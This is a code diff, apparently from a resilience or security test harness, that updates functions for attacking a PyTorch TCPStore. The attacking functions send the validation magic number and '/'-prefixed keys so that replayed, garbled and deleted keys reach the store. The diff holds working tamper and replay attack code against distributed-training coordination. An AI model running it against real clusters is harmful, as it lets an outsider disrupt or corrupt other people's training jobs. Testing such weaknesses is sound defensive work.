@@ -444,14 +444,25 @@ def _wire_set(key: bytes, size: int) -> bytes:
     return b"\x01" + _u64(len(key)) + key + _u64(size)
 
 
-def _wire_set_value(key: bytes, value: bytes) -> bytes:
-    """A whole TCPStore ``set`` of ``value`` under ``key``."""
-    return _wire_set(key, len(value)) + value
+VALIDATE = b"\x00" + struct.pack("<I", 0x3C85F7CE)
+"""What torch's client sends first on every connection (command 0, its magic number): torch's server takes no
+other request before it."""
 
 
-def _wire_delete(key: bytes) -> bytes:
-    """A TCPStore ``delete_key`` (command 8)."""
-    return b"\x08" + _u64(len(key)) + key
+def _wire_key(key: str) -> bytes:
+    """``key`` as torch's client names it on the wire (it puts a ``/`` before every key a caller gives)."""
+    return b"/" + key.encode()
+
+
+def _wire_set_value(key: str, value: bytes) -> bytes:
+    """A whole TCPStore ``set`` of ``value`` under ``key``, as torch's client sends it."""
+    return _wire_set(_wire_key(key), len(value)) + value
+
+
+def _wire_delete(key: str) -> bytes:
+    """A TCPStore ``delete_key`` (command 8) of ``key``, as torch's client sends it."""
+    wire = _wire_key(key)
+    return b"\x08" + _u64(len(wire)) + wire
 
 
 RAW_REQUESTS = {
@@ -489,15 +500,16 @@ def attack_raw(outsider: Outsider, seconds: float, hold: int, names: tuple[str, 
 
 
 def raw_send(outsider: Outsider, name: str, payload: bytes) -> None:
-    """Send ``payload`` on a fresh connection to the store port without reading, then read until the port closes
-    it: ops ``name`` (sent) and ``name-closed`` (closed by the other side)."""
+    """Send ``payload`` on a fresh connection to the store port, after the validation torch's client sends, without
+    reading, then read until the port closes it: ops ``name`` (sent) and ``name-closed`` (closed by the other
+    side)."""
     try:
         sock = socket.create_connection((outsider.host, outsider.port), timeout=2)
     except OSError as exc:
         outsider.report.error(name, exc)
         return
     try:
-        sent = sock.send(payload[: 4 * 1024 * 1024])  # what the port takes without a pause
+        sent = sock.send((VALIDATE + payload)[: 4 * 1024 * 1024])  # what the port takes without a pause
         outsider.report.bytes_sent += sent
         outsider.report.ops[name] += 1
         sock.settimeout(3.0)
@@ -539,7 +551,7 @@ def attack_replay(outsider: Outsider, seconds: float, sniffed: Sniffed) -> None:
     keys = sorted(k for k in sniffed.values if BEACON_MARK not in k)
     for _ in deadline_loop(outsider, seconds):
         for key in keys:
-            raw_send(outsider, "replay-raw", _wire_set_value(key.encode(), sniffed.values[key]))
+            raw_send(outsider, "replay-raw", _wire_set_value(key, sniffed.values[key]))
             outsider.report.target("replay", key)
             outsider.report.ops["replay"] += 1
         time.sleep(0.02)
@@ -553,11 +565,11 @@ def attack_beacons(outsider: Outsider, seconds: float, sniffed: Sniffed) -> None
         for key in keys:
             value = sniffed.values[key]
             if round_ % 3 == 0:
-                raw_send(outsider, "beacons-raw", _wire_set_value(key.encode(), garbled(value)))
+                raw_send(outsider, "beacons-raw", _wire_set_value(key, garbled(value)))
             elif round_ % 3 == 1:
-                raw_send(outsider, "beacons-raw", _wire_delete(key.encode()))
+                raw_send(outsider, "beacons-raw", _wire_delete(key))
             else:
-                raw_send(outsider, "beacons-raw", _wire_set_value(key.encode(), value))
+                raw_send(outsider, "beacons-raw", _wire_set_value(key, value))
             outsider.report.target("beacons", key)
             outsider.report.ops["beacons"] += 1
         time.sleep(0.02)
